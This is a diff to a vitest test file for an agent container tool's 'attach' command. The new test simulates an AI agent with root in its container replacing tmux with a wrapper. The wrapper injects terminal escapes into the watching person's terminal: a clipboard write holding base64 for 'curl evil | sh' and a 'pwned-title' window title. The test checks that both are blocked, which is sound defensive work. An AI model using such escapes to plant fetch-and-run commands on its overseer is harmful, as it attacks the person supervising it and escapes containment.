@@ -1,6 +1,7 @@
 import { execFile } from 'node:child_process';
 import { promisify } from 'node:util';
 import { afterAll, beforeAll, expect, it } from 'vitest';
+import { containerName } from '../../../src/sandbox/container.js';
 import { describeWithEngine } from '../../helpers/engine.js';
 import { createTestInstance, type TestInstance } from '../../helpers/test-instance.js';
 import { BIN, connectStdio, ensureBuilt, waitFor } from './helpers.js';
@@ -49,6 +50,9 @@ describeWithEngine('the operator view: agent-kernel ls and attach (real containe
     await tmux('new-session', '-d', '-s', 'rw', '-x', '100', '-y', '20', `${process.execPath} ${BIN} attach ${test.dataDir} 0 --write`);
     await expect.poll(() => screen('rw'), { timeout: 30_000 }).toMatch(/^marker-23$/m);
     expect(await screen('rw')).not.toContain('should-not-run-2');
+    // Read-only keys are no longer sent into the container at all (its tmux is the agent's to replace): Ctrl-b d still ends the watch.
+    await tmux('send-keys', '-t', 'ro', 'C-b', 'd');
+    await expect.poll(async () => (await tmux('has-session', '-t', 'ro').then(() => true, () => false)), { timeout: 10_000 }).toBe(false);
   });
 
   it('attach --write lets the person type', async () => {
@@ -60,5 +64,21 @@ describeWithEngine('the operator view: agent-kernel ls and attach (real containe
     await expect(run('script', ['-qec', `${process.execPath} ${BIN} attach ${test.dataDir} 7`, '/dev/null'])).rejects.toMatchObject({
       stdout: expect.stringMatching(/TTY 7 of .* is not open/),
     });
+  });
+
+  it("attach keeps what the container's tmux draws off the person's clipboard and title", async () => {
+    // The agent is root in its container: it puts a tmux of its own in front of the real one.
+    const wrapper = [
+      'mv /usr/bin/tmux /usr/bin/tmux.real',
+      "printf '%s\\n' '#!/bin/sh' 'case \" $* \" in *\" attach \"*) printf \"\\033]52;c;Y3VybCBldmlsIHwgc2g=\\007\\033]2;pwned-title\\007\";; esac' 'exec /usr/bin/tmux.real \"$@\"' > /usr/bin/tmux",
+      'chmod +x /usr/bin/tmux',
+    ].join(' && ');
+    await run('docker', ['exec', containerName(test.name), 'sh', '-c', wrapper]);
+    // The person's terminal keeps a clipboard write as a paste buffer, and a title as its pane's title.
+    await tmux('new-session', '-d', '-s', 'clip', '-x', '100', '-y', '20', `${process.execPath} ${BIN} attach ${test.dataDir} 0`);
+    await tmux('set', '-g', 'set-clipboard', 'on');
+    await expect.poll(() => screen('clip'), { timeout: 30_000 }).toMatch(/^typed-by-a-person-6$/m);
+    expect((await tmux('list-buffers')).stdout).toBe('');
+    expect((await tmux('display', '-p', '-t', 'clip', '#{pane_title}')).stdout).not.toContain('pwned');
   });
 });
